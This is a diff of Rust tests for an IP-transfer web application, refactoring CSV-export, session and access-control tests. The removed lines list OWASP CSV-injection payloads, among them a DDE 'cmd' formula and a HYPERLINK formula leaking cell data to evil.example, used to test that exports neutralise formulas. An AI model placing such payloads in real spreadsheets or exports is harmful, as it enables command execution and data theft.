@@ -8,6 +8,7 @@ use axum::http::StatusCode;
 use ipxfer::db::entities::{email_outbox, session, transfer};
 use ipxfer::domain::export::LedgerFilter;
 use ipxfer::domain::export::csv_rows;
+use ipxfer::domain::export::spreadsheet::OWASP_PAYLOADS;
 use ipxfer::services::accounts;
 use ipxfer::services::export::{self, WriteSink};
 use ipxfer::services::import;
@@ -274,24 +275,16 @@ async fn a_flood_of_overlapping_blocks_answers_a_short_page() {
 // ---------------------------------------------------------------------------------------------
 // 4. CSV cells never start a formula.
 
-/// OWASP's CSV injection payloads and its leading characters.
-const FORMULAS: [&str; 10] = [
-    "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"Error: click\")",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "+2+5+cmd|' /C calc'!E2",
-    "-2+3+cmd|' /C calc'!E2",
-    "\t=1+2",
-    "\r=1+2",
-    "=1+2\";=1+2",
-    "=1+2'\" ;,=1+2",
-    "\u{FF1D}1+2",
-];
-
 #[tokio::test]
 async fn organisation_names_from_an_imported_log_reach_the_csv_as_text() {
     let w = World::new().await;
-    let transfers: Vec<serde_json::Value> = FORMULAS
+    // OWASP's payloads, and a full-width equals sign.
+    let names: Vec<&str> = OWASP_PAYLOADS
+        .iter()
+        .copied()
+        .chain(["\u{FF1D}1+2"])
+        .collect();
+    let transfers: Vec<serde_json::Value> = names
         .iter()
         .enumerate()
         .map(|(i, name)| {
@@ -327,7 +320,6 @@ async fn organisation_names_from_an_imported_log_reach_the_csv_as_text() {
     let mut reader = csv::ReaderBuilder::new()
         .has_headers(true)
         .from_reader(sink.0.as_slice());
-    let mut names = Vec::new();
     for record in reader.records() {
         for cell in record.unwrap().iter() {
             assert!(
@@ -336,13 +328,16 @@ async fn organisation_names_from_an_imported_log_reach_the_csv_as_text() {
             );
         }
     }
-    for row in csv_rows::read(sink.0.as_slice()) {
-        names.push(row.unwrap().source_org.unwrap());
-    }
+    let written: Vec<String> = csv_rows::read(sink.0.as_slice())
+        .map(|row| row.unwrap().source_org.unwrap())
+        .collect();
     // (The transfer-log reader trims names, so "\t=1+2" arrives as "=1+2".)
-    for name in FORMULAS {
+    for name in &names {
         let name = name.trim();
-        assert!(names.contains(&format!("'{name}")), "{name:?} in {names:?}");
+        assert!(
+            written.contains(&format!("'{name}")),
+            "{name:?} in {written:?}"
+        );
     }
     // Every cell is quoted, so a spreadsheet splitting on `;` keeps `=1+2";=1+2` one cell.
     assert!(text.contains("\"'=1+2\"\";=1+2\""), "{text}");
@@ -403,25 +398,10 @@ async fn a_password_reset_ends_every_other_session() {
 
 #[tokio::test]
 async fn a_deactivated_accounts_sessions_do_not_come_back_with_reactivation() {
-    use ipxfer::db::users::{self, NewUser};
-    let w = World::new().await;
-    users::insert(
-        &w.db.conn,
-        NewUser {
-            email: "admin@example.org",
-            display_name: "Admin",
-            role: "admin",
-            organisation_id: None,
-            registry: None,
-            password_hash: Some(crate::browser::password_hash()),
-        },
-        now(),
-    )
-    .await
-    .unwrap();
+    let w = crate::web_admin::world().await;
     let member = w.source_member.user_id.unwrap();
     let mut user = Browser::signed_in(&w.db.conn, "src@example.net").await;
-    let mut admin = Browser::signed_in(&w.db.conn, "admin@example.org").await;
+    let mut admin = Browser::signed_in(&w.db.conn, crate::web_admin::ADMIN).await;
     admin.get("/admin/users").await.assert_ok();
     let res = admin
         .post(&format!("/admin/users/{member}/deactivate"), &[])
@@ -695,18 +675,7 @@ async fn the_sign_in_form_creates_no_session_until_it_is_sent() {
         .await;
     assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
     assert_eq!(sessions().await.unwrap(), 0);
-    // The form still only works with its token.
-    let forged = b
-        .post_raw(
-            "/login",
-            &[
-                ("csrf_token", "forged"),
-                ("email", "src@example.net"),
-                ("password", PASSWORD),
-            ],
-        )
-        .await;
-    assert_eq!(forged.status, StatusCode::FORBIDDEN);
+    // (A forged token is refused: web_account::forms_without_the_sessions_token_or_from_another_site_are_refused.)
     b.sign_in("src@example.net").await;
     assert_eq!(sessions().await.unwrap(), 1);
 }
@@ -723,30 +692,12 @@ async fn a_transfer_that_is_not_yours_looks_like_one_that_does_not_exist() {
     let id = w.file("20.0.4.0/22").await.unwrap();
     w.attach_documents(id).await;
     let missing = id + 1000;
-    let apnic = "2|apnic|1|1|19700101|20260101|+1000\n\
-                 apnic|AU|ipv4|1.0.0.0|256|20100101|allocated|apnic-holder\n";
-    import::import_delegated(&w.db.conn, apnic.as_bytes(), now(), &import::NoProgress)
-        .await
-        .unwrap();
+    let email = crate::web_transfers::outsider(&w).await;
     let apnic_org =
         ipxfer::db::organisations::ids_by_handle(&w.db.conn, ipxfer::domain::Rir::Apnic)
             .await
             .unwrap()["apnic-holder"];
-    ipxfer::db::users::insert(
-        &w.db.conn,
-        ipxfer::db::users::NewUser {
-            email: "other@example.au",
-            display_name: "Other",
-            role: "member",
-            organisation_id: Some(apnic_org),
-            registry: None,
-            password_hash: Some(crate::browser::password_hash()),
-        },
-        now(),
-    )
-    .await
-    .unwrap();
-    let mut b = Browser::signed_in(&w.db.conn, "other@example.au").await;
+    let mut b = Browser::signed_in(&w.db.conn, email).await;
     let doc = ipxfer::db::entities::document::Entity::find()
         .one(&w.db.conn)
         .await
